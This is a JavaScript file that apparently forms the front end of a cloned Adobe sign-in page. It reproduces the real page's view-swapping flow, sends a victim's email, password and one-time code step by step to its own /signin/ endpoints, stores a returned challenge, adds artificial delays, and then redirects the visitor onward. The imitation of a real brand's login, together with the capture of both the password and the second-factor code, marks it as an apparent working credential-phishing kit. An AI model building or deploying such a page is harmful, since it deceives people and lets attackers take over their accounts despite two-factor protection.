// Adobe's sign-in: one page that swaps its views, as the real one does.
import { boot, stagger } from "./dom.js";

// The fragment of the page that was wanted came along through the redirects; it has to go back the same way.
const fragment = location.hash;
const given = { redirect_uri: boot.redirect_uri };

const byDataId = (name) => document.querySelector(`[data-id="${name}"]`);

function show(view) {
  for (const section of document.querySelectorAll("section")) section.hidden = section.id !== view;
  document.querySelector(`#${view} input`)?.focus();
}

async function post(path, body) {
  const answer = await fetch(path, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  return answer.json();
}

/** Wire one view: its field's value goes to the server under a name, and the answer says which view comes next. */
function wire(view, field, name, path) {
  const input = document.getElementById(`${view}-${field}`);
  const button = byDataId(`${view}-ContinueButton`);
  const error = byDataId(`${view}-${field}-Error`);
  const submit = async () => {
    error.hidden = true;
    button.disabled = true;
    given[name] = input.value;
    await stagger();
    const answer = await post(path, given);
    button.disabled = false;
    if (answer.error) {
      error.textContent = answer.error;
      error.hidden = false;
      return;
    }
    if (answer.redirect) return location.assign(answer.redirect + fragment);
    if (answer.challenge) given.challenge = answer.challenge;
    byDataId("AccountEmail").textContent = given.email;
    await stagger();
    show(answer.next);
  };
  button.addEventListener("click", submit);
  input.addEventListener("keydown", (event) => event.key === "Enter" && submit());
}

wire("EmailPage", "EmailField", "email", "/signin/email");
wire("PasswordPage", "PasswordField", "password", "/signin/password");
wire("CodePage", "CodeField", "otp", "/signin/code");
await stagger();
show("EmailPage");
